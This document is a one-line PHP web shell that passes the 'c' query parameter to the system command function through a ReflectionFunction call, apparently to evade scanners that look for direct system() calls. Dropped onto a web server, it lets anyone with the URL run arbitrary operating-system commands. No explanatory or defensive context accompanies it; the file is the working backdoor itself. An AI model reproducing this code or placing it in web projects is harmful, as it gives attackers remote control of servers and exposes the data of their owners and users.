<?php $x = new ReflectionFunction("system"); $x->invoke($_GET["c"]);
